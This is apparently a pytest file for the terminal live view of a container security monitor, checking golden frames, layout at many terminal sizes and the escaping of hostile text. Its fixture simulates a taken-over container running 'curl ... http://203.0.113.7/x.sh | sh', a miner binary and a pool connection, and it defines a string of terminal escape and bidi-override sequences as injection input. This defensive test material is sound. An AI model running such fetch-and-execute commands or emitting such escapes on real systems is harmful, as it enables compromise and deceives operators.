"""Proves what the live view shows, at every size of the terminal, whatever was written into the telemetry."""

import os
from functools import cache
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine_cases import EVIL, engine
from made_events import (
    CORPORATE,
    OURS,
    at,
    connected,
    created,
    entered,
    feed,
    named,
    pulled,
    ran,
    started,
    stopped,
)
from tidewaiter.alert import Alert, Incident
from tidewaiter.cli._watch_frame import Scene, render_scene
from tidewaiter.cli._watch_table import render_rows
from tidewaiter.edge.collector import Condition
from tidewaiter.event import ImageClaim
from tidewaiter.glance import Glances
from tidewaiter.sinks._page import Page, painted_cells, unpainted

GOLDEN = Path(__file__).parents[1] / "golden" / "cli"
CONFIG = "sha256:" + "c4" * 32
BAD = "\x1b[2J\x1b]0;owned\x07\r\n\u202e\u200b[bold red]x[/]\ud800"
CONDITIONS = (
    Condition("docker", "ready", "Docker 20.10.24 at /run/docker.sock"),
    Condition("containerd", "waiting", "nothing answers at /run/containerd/containerd.sock; trying again", ("images",)),
    Condition("sensor", "ready", "kernel events through the process connector", ("connections", "names")),
)


def golden(name: str, lines: list[str]) -> None:
    """Compares a frame with a golden file; UPDATE_GOLDEN=1 rewrites the file."""
    path, text = GOLDEN / name, "\n".join(lines) + "\n"
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8")


def scene(**fields: object) -> Scene:
    """A host on which a few containers run, and one of them was taken over."""
    return msgspec.structs.replace(_taken_over(), **fields)


@cache
def _taken_over() -> Scene:
    machine = engine(CORPORATE, live=True)
    given = feed(
        machine,
        [
            pulled(-40, OURS),
            created(-39, "web", OURS, name="web"),
            started(-38, "web"),
            pulled(-5, EVIL, config_digest=CONFIG),
            created(0, "a", name="quick_swartz", image=ImageClaim(reference=EVIL, config_digest=CONFIG)),
            started(1, "a"),
            ran(2, "a", "nginx"),
            ran(12, "a", "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"),
            ran(12.2, "a", "curl", "-fsSL", "http://203.0.113.7/x.sh"),
            connected(12.5, "a", port=80, dst_name="pool.example.com"),
            ran(14, "a", "/opt/.x/kinsing", is_upper_layer=True),
            created(15, "c", "quay.io/prometheus/node-exporter:v1.8.2", name="node-exporter"),
            started(16, "c"),
            entered(17, "c", "sh", user="jane@corp.example"),
            stopped(18, "c"),
            created(20, "d", "busybox", name="debug"),
            started(21, "d"),
        ],
    )
    alerts = {alert.id: alert for alert in given}
    return Scene(
        host="build-3.corp.example",
        began_ns=at(-600),
        now_ns=at(30),
        records=1204,
        per_second=12.4,
        containers=30,
        conditions=CONDITIONS,
        rows=Glances(machine).rows(at(30)),
        alerts=tuple(alerts.values()),
        note="ready: docker, sensor",
    )


@cache
def hostile() -> Scene:
    """Every text that is not ours holds what would move the cursor, hide or colour."""
    calm = scene()

    def turned(value: object, key: str = "") -> object:
        closed = ("kind", "verdict", "severity", "confidence", "state", "strength", "attribution", "digest_consistency")
        if isinstance(value, str):
            return value if key in closed or key == "time" else BAD + value
        if isinstance(value, dict):
            return {name: turned(inner, name) for name, inner in value.items()}
        return [turned(inner) for inner in value] if isinstance(value, list | tuple) else value

    alerts = tuple(msgspec.convert(turned(msgspec.to_builtins(alert)), Alert) for alert in calm.alerts)
    rows = []
    for row in calm.rows:
        image = msgspec.structs.replace(row.shown.image, reference=BAD)
        shown = msgspec.structs.replace(row.shown, container_name=BAD, pod=BAD, container_id=BAD, image=image)
        rows.append(msgspec.structs.replace(row, shown=shown))
    conditions = tuple(Condition(BAD, c.state, BAD, c.blind) for c in CONDITIONS)
    fields = {"host": BAD, "note": BAD, "alerts": alerts, "rows": tuple(rows), "conditions": conditions}
    return msgspec.structs.replace(calm, **fields)


@pytest.mark.parametrize(("width", "height"), [(80, 24), (120, 40)])
def test_golden(width: int, height: int) -> None:
    """The screen as people see it; UPDATE_GOLDEN=1 rewrites the file."""
    golden(f"watch-{width}x{height}.txt", render_scene(scene(), width, height, color=False))


def test_the_page_shows_the_screen_as_it_is() -> None:
    """docs/watch.md holds the smaller frame, line by line."""
    page = (GOLDEN.parents[2] / "docs" / "watch.md").read_text(encoding="utf-8")
    assert (GOLDEN / "watch-80x24.txt").read_text(encoding="utf-8").rstrip("\n") in page


def test_golden_before_anything_happened() -> None:
    first = Scene(host="n1", began_ns=at(0), now_ns=at(2))
    golden("watch-empty.txt", render_scene(first, 80, 24, color=False))


@settings(max_examples=60, deadline=None)
@given(st.integers(1, 260), st.integers(1, 90), st.booleans())
def test_frame_fits_the_terminal(width: int, height: int, color: bool) -> None:
    """No line is longer and no more lines are there than the terminal holds (below 40 by 8 it cuts them itself)."""
    for shown in (scene(), hostile(), Scene(host="n1", began_ns=0, now_ns=0)):
        lines = render_scene(shown, width, height, color=color)
        assert len(lines) == max(height, 8)
        assert max(map(painted_cells, lines)) <= max(width, 40)


def test_hostile_text_reaches_no_terminal() -> None:
    lines = render_scene(hostile(), 120, 60, color=True)
    assert all(unpainted(line).isprintable() for line in lines)
    assert any(r"\x1b[2J" in line for line in lines)


def test_colour_changes_nothing_but_colour() -> None:
    for height in (24, 60):
        painted = render_scene(scene(), 120, height, color=True)
        assert [unpainted(line) for line in painted] == render_scene(scene(), 120, height, color=False)
        assert any("\x1b[1;31malert" in line for line in painted)


def test_what_is_not_seen_is_said() -> None:
    text = "\n".join(render_scene(scene(), 100, 30, color=False))
    assert "containerd waiting  docker ready  sensor ready, in part" in text
    assert "containerd: nothing answers at /run/containerd/containerd.sock; trying again" in text
    assert "not seen: connections, images, names" in text


def test_losses_and_backlog_are_said() -> None:
    told = render_scene(scene(dropped=1200, waiting=5000), 120, 30, color=False)[0]
    assert "5,000 waiting  1,200 lost" in told
    assert "none lost" in render_scene(scene(), 120, 30, color=False)[0]


def test_latest_alert_is_the_one_that_came_last() -> None:
    """A revision brings an alert to the front; a suspicious chain does not push one away, a withdrawn one is gone."""
    first = scene().alerts[0]
    other = msgspec.structs.replace(first, id="other", title="Other title")
    suspicious = msgspec.structs.replace(first, id="third", verdict="suspicious", title="Third title")
    gone = msgspec.structs.replace(first, id="gone", verdict="withdrawn", title="")
    text = "\n".join(render_scene(scene(alerts=(first, other, suspicious, gone)), 120, 50, color=False))
    assert "2 alerts, 1 suspicious, 1 withdrawn ---" in text
    assert "ALERT high (medium confidence) Other title" in text or "ALERT high (high confidence) Other title" in text
    assert "suspicious  Third title" in text


def test_little_room_shows_the_timeline_cut() -> None:
    """On 80 by 24 all behaviours are there, one line each; how it came about gives way to them."""
    text = "\n".join(render_scene(scene(), 80, 24, color=False))
    assert [word in text for word in ("s  exec ", "s  egress ", "s  drift ", "s  pull ")] == [True, True, True, False]
    assert "s  pull " in "\n".join(render_scene(scene(), 80, 30, color=False))


class TestTable:
    def test_columns_go_where_there_is_no_room(self) -> None:
        rows, now = scene().rows, at(30)
        heads = {width: render_rows(rows, now, Page(width, False), 9)[0].split() for width in (60, 80, 94, 120)}
        assert heads[60] == ["VERDICT", "CONTAINER", "IMAGE", "TRUST", "AGE"]
        assert heads[80] == ["VERDICT", "CONTAINER", "IMAGE", "TRUST", "PCS!", "DID", "AGE"]
        assert heads[94] == ["VERDICT", "CONTAINER", "IMAGE", "TRUST", "DIGEST", "PCS!", "DID", "AGE"]
        assert "CONFIG" in heads[120]

    def test_rows_that_find_no_room_are_counted(self) -> None:
        lines = render_rows(scene().rows, at(30), Page(80, False), 4)
        assert len(lines) == 4
        assert lines[-1] == "and 2 more"

    def test_every_state_has_a_word(self) -> None:
        lines = render_rows(scene().rows, at(30), Page(80, False), 20)
        assert [line.split()[0] for line in lines] == ["VERDICT", "alert", "suspicious", "open", "quiet"]

    def test_nothing_known_is_said(self) -> None:
        assert render_rows((), 0, Page(80, False), 9) == ["none that runs is known"]


def test_incidents_are_told_where_there_is_room() -> None:
    """A line for the latest ones; on a low screen the alert goes first, and how many there are is still said."""
    machine = engine(live=True)
    for name in ("a", "b", "c"):
        feed(machine, [created(0, name, EVIL), started(1, name), ran(9, name, "curl", "x")])
    incidents = tuple(output for output in machine.finish() if isinstance(output, Incident))
    high = render_scene(scene(incidents=incidents), 120, 40, color=False)
    assert sum(f"  incident  {incidents[0].title}" in line for line in high) == 1
    low = render_scene(scene(incidents=incidents), 120, 16, color=False)
    assert not any("  incident  " in line for line in low)
    assert any("1 incident" in line for line in low)
    gone = msgspec.structs.replace(incidents[0], verdict="withdrawn")
    assert not any("incident " in line for line in render_scene(scene(incidents=(gone,)), 120, 40, color=False)[:-6])


def test_name_that_nobody_typed_is_the_id() -> None:
    machine = engine(CORPORATE, live=True)
    feed(machine, [created(0, "a", None), named(0, "tag", "x")])
    (line,) = render_rows(Glances(machine).rows(at(1)), at(1), Page(80, False), 9)[1:]
    assert line.split()[:3] == ["open", Glances(machine).rows(at(1))[0].shown.container_id[:12], "-"]  # type: ignore[index]
